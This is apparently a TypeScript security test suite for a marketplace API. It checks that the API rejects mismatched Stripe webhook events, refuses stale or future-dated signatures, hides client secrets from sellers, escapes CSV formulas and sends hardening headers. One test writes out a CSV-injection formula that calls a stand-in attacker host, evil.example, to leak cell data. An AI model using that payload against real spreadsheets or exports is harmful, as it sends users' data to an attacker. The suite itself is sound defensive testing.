import { ledger, openProgram, operator, type TestUser } from '../support/factories.js';
import { recordFigures, tally } from '../support/figures.js';
import {
  listedKampProduct,
  orderWithVoucher,
  sendSignedEvent,
  voucherHolder,
} from '../support/market.js';
import { asBuffer } from '../support/http.js';
import { startTestApp, type TestApp, type TestClient } from '../support/test-app.js';

/**
 * Attacks on payments, reports and the HTTP surface that once worked (issue 14): forged-looking
 * but signed Stripe events for the wrong amount, currency or order; another party's client
 * secret; formulas in CSV exports; missing hardening headers.
 */
describe('integrity: payments, reports and HTTP', () => {
  let t: TestApp;
  let c: TestClient;
  let op: TestUser;
  let tallied: ReturnType<typeof tally>;
  let programId: string;
  const PRICE = 1_000_000;

  beforeAll(async () => {
    t = await startTestApp();
    tallied = tally(t);
    c = tallied.client;
    op = await operator(c);
    programId = (await openProgram(c, op, 'PURCHASE_SUPPORT', { budgetKrw: 100_000_000 })).id;
  });
  afterAll(async () => {
    const l = await ledger(t, programId);
    expect([l.unbalancedJournals, l.grandTotal]).toEqual([0, 0n]);
    recordFigures('integrity (payments, reports, HTTP)', tallied.figures);
    await t.close();
  });

  /** A signed Stripe event, as Stripe would send it (timestamp: seconds, now by default). */
  function signed(type: string, object: Record<string, unknown>, timestamp?: number) {
    tallied.figures.attacks++;
    return sendSignedEvent(c, t.config.stripe.webhookSecret, { type, object, timestamp });
  }

  /** An SME buyer's order awaiting its 20% by card, and the product's seller. */
  async function awaitingOrder() {
    const listed = await listedKampProduct(c, { priceKrw: PRICE, license: 'COMMERCIAL' });
    const buyer = await voucherHolder(c, op, programId, {
      category: 'SME',
      governmentKrw: 8_000_000,
      totalCostKrw: 10_000_000,
    });
    const order = await orderWithVoucher(c, buyer, listed.productId, PRICE).expect(201);
    expect(order.body).toMatchObject({ status: 'AWAITING_PAYMENT', buyerKrw: 200_000 });
    return { listed, buyer, order: order.body };
  }

  const statusOf = async (user: TestUser, id: string) =>
    (await c.http().get(`/api/orders/${id}`).set(user.auth).expect(200)).body.status;

  it('a signed event pays an order only with its PaymentIntent, amount and currency; anything else is logged and changes nothing', async () => {
    const { buyer, order } = await awaitingOrder();
    const intent = order.payment.paymentIntentId;
    const usd = await signed('payment_intent.succeeded', {
      id: intent,
      object: 'payment_intent',
      amount: 1,
      currency: 'usd',
      metadata: { orderId: order.id },
    }).expect(200);
    expect(usd.body.outcome).toMatch(/^attention: the event is for 1 usd/);
    const short = await signed('payment_intent.succeeded', {
      id: intent,
      object: 'payment_intent',
      amount: 1,
      currency: 'krw',
      metadata: { orderId: order.id },
    }).expect(200);
    expect(short.body.outcome).toMatch(/^attention/);
    // No PaymentIntent at all, only metadata naming the order.
    const orphan = await signed('payment_intent.succeeded', {
      id: 'ch_no_intent',
      object: 'charge',
      payment_intent: null,
      amount: 200_000,
      currency: 'krw',
      metadata: { orderId: order.id },
    }).expect(200);
    expect(orphan.body.outcome).toMatch(/^ignored/);
    expect(await statusOf(buyer.admin, order.id)).toBe('AWAITING_PAYMENT');
    const [{ n }] = await t.dataSource.query(
      `SELECT count(*)::int AS n FROM ledger_journals WHERE reference_id = $1 AND kind = 'ORDER_PAID'`,
      [order.id],
    );
    expect(n).toBe(0);

    // The real one pays it.
    const real = await signed('payment_intent.succeeded', {
      id: intent,
      object: 'payment_intent',
      amount: 200_000,
      currency: 'krw',
      metadata: { orderId: order.id },
    }).expect(200);
    expect(real.body.outcome).toBe('paid');
  });

  it('a signature dated in the future is refused like an old one', async () => {
    const { buyer, order } = await awaitingOrder();
    const object = {
      id: order.payment.paymentIntentId,
      object: 'payment_intent',
      amount: 200_000,
      currency: 'krw',
      metadata: { orderId: order.id },
    };
    const now = Math.floor(Date.now() / 1000);
    for (const timestamp of [now + 3600, now - 3600]) {
      const res = await signed('payment_intent.succeeded', object, timestamp).expect(400);
      expect(res.body.code).toBe('INVALID_SIGNATURE');
    }
    expect(await statusOf(buyer.admin, order.id)).toBe('AWAITING_PAYMENT');
  });

  it("only the buyer's members see the client secret that pays an order; the seller does not", async () => {
    const { listed, buyer, order } = await awaitingOrder();
    const seen = await tallied
      .attack()
      .http()
      .get(`/api/orders/${order.id}`)
      .set(listed.seller.auth)
      .expect(200);
    expect(seen.body.payment).toEqual({ paymentIntentId: order.payment.paymentIntentId });
    const listedForSeller = await tallied
      .attack()
      .http()
      .get(`/api/organizations/${listed.organizationId}/orders`)
      .set(listed.seller.auth)
      .expect(200);
    expect(JSON.stringify(listedForSeller.body)).not.toContain('_secret_');
    const own = await c.http().get(`/api/orders/${order.id}`).set(buyer.admin.auth).expect(200);
    expect(own.body.payment.clientSecret).toMatch(/_secret_/);
  });

  it('a product title that is a spreadsheet formula is written to the CSV report as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&B3,"상세보기")';
    const listed = await listedKampProduct(c, { priceKrw: PRICE, license: 'COMMERCIAL' });
    await tallied
      .attack()
      .http()
      .patch(`/api/products/${listed.productId}`)
      .set(listed.seller.auth)
      .send({ title: formula })
      .expect(200);
    const lab = await voucherHolder(c, op, programId, {
      category: 'NONPROFIT',
      governmentKrw: PRICE,
      totalCostKrw: PRICE,
    });
    await orderWithVoucher(c, lab, listed.productId, PRICE).expect(201);
    const csv = await c
      .http()
      .get('/api/reports/exchange')
      .query({ format: 'csv' })
      .set(op.auth)
      .buffer(true)
      .parse(asBuffer)
      .expect(200);
    const text = (csv.body as Buffer).toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B3,""상세보기"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('answers carry the usual hardening headers; auth answers are never cached; a 401 names the Bearer scheme', async () => {
    const health = await c.http().get('/health');
    expect(health.headers['x-content-type-options']).toBe('nosniff');
    expect(health.headers['x-frame-options']).toBe('DENY');
    expect(health.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(health.headers['content-security-policy']).toContain("default-src 'self'");
    const docs = await c.http().get('/api/docs').redirects(1).expect(200);
    expect(docs.text).toContain('swagger-ui-init.js');
    expect(docs.text).not.toMatch(/<script>[^<]/); // no inline script for the CSP to block
    const login = await c
      .http()
      .post('/api/auth/login')
      .send({ email: op.email, password: op.password })
      .expect(200);
    expect(login.headers['cache-control']).toBe('no-store');
    const me = await c.http().get('/api/me').set(op.auth).expect(200);
    expect(me.headers['cache-control']).toBe('no-store');
    const anonymous = await tallied.attack().http().get('/api/me').expect(401);
    expect(anonymous.headers['www-authenticate']).toBe('Bearer realm="exchange"');
    const forged = await tallied
      .attack()
      .http()
      .get('/api/me')
      .set('Authorization', 'Bearer not.a.token')
      .expect(401);
    expect(forged.headers['www-authenticate']).toBe(
      'Bearer realm="exchange", error="invalid_token"',
    );
  });
});
